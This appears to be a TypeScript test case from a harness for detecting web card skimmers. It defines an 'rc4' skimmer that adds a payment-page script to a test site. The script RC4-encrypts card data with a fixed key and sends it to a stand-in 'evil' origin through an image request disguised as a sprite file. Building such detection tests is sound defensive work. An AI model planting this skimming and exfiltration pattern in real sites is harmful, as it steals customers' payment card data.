import { createHash } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay, RC4 } from '../snippets.ts';
import { rc4 } from '../ciphers.ts';

const KEY = createHash('sha256').update('rc4').digest('hex').slice(0, 12);

export default skimmer({
  id: 'rc4',
  why: 'RC4 with a fixed key: the value is nowhere on the wire under any encoding.',
  covers: ['cipher: any', 'sending: image', 'disguise: file ending'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`${RC4}
    new Image().src = '${site.origins.evil}/static/sprite.png?v=' + encodeURIComponent(btoa(rc4('${KEY}', card())));`),
    ),
  proof: holds((arrived) => query(arrived, 'v').map((text) => rc4(KEY, Buffer.from(text, 'base64')))),
});
